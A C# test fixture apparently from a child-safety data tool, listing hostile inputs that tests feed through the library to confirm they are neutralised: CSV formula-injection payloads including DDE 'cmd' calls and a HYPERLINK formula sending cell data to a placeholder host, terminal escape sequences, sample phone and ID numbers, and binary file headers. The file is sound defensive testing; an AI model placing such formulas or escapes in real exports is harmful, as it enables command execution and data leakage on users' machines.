namespace SafetyPrograms.Tests.Corpus;

/// <summary>
/// Hostile values, kept in the tests: raw identifiers a partner might put where a pseudonymous key belongs, spreadsheet
/// formulas, terminal escape sequences and bytes that are not text. Each group is what one attack class sends; the
/// tests feed every member through the library and the tool and check that none comes back out as it went in.
/// </summary>
internal static class HostileValues
{
    /// <summary>Phone numbers, national identity numbers and e-mail addresses, in the shapes partners write them.</summary>
    public static readonly string[] RawIdentifiers =
    [
        "+923001234567", "03001234567", "0300-1234567", "+92 300 1234567", "0092 300 1234567", "(0300) 123 4567",
        "35202-1234567-1", "3520212345671", "tel:03001234567", "child@example.org", "+447700900123", "00447700900123",
        "9230012345678901",
    ];

    /// <summary>Values that are not raw identifiers by shape but still must not be shown in a message.</summary>
    public static readonly string[] NeverShown =
    [
        new string('k', 900 * 1024), // a 900 KB key
        "Ali Khan 03001234567",      // a name and a number
        "learner-123456789012",      // a long run of digits
    ];

    /// <summary>Cells that a spreadsheet would evaluate: OWASP's examples and ours.</summary>
    public static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "=1+1", "-a1", "-2-3", "+cmd|' /C notepad'!'A1'", "@A1", "-", "=",
    ];

    /// <summary>Numbers that begin with a minus and are not formulas: they stay numbers.</summary>
    public static readonly string[] NegativeNumbers = ["-1", "-0.25", "-12345", "-1E-05"];

    /// <summary>Terminal control: colour, cursor movement, screen clearing, window title, hyperlinks, bidirectional overrides.</summary>
    public static readonly string[] EscapeSequences =
    [
        "\u001b[31mred\u001b[0m", "\u001b[2J\u001b[H", "\u001b]0;owned\u0007", "\u001b]8;;http://example.invalid\u001b\\link\u001b]8;;\u001b\\",
        "a\rb", "bell\u0007", "\u009b31m", "abc\u202edcba", "back\bspace", "nul\0byte",
    ];

    /// <summary>Binary files given where CSV belongs: a gzip header and a Parquet file's magic, with raw bytes after them.</summary>
    public static readonly byte[][] BinaryFiles =
    [
        [0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x2c, 0x1b, 0x5b, 0x32, 0x4a, 0xff, 0xfe, 0x0a, 0x01, 0x02],
        [(byte)'P', (byte)'A', (byte)'R', (byte)'1', 0x15, 0x04, 0x15, 0x1b, 0x5b, 0x48, 0x2c, 0x00, 0x9b, 0x0a, (byte)'P', (byte)'A', (byte)'R', (byte)'1'],
    ];

    public static TheoryData<string> All(params string[][] groups)
    {
        var data = new TheoryData<string>();
        foreach (var value in groups.SelectMany(g => g))
        {
            data.Add(value);
        }
        return data;
    }

    /// <summary>Whether <paramref name="text"/> holds any control character that would reach a terminal (line breaks and tabs aside).</summary>
    public static bool HasRawControl(string text) =>
        text.Any(c => (char.IsControl(c) && c is not ('\n' or '\t' or '\r')) || c is '\u202e' or '\u009b');
}
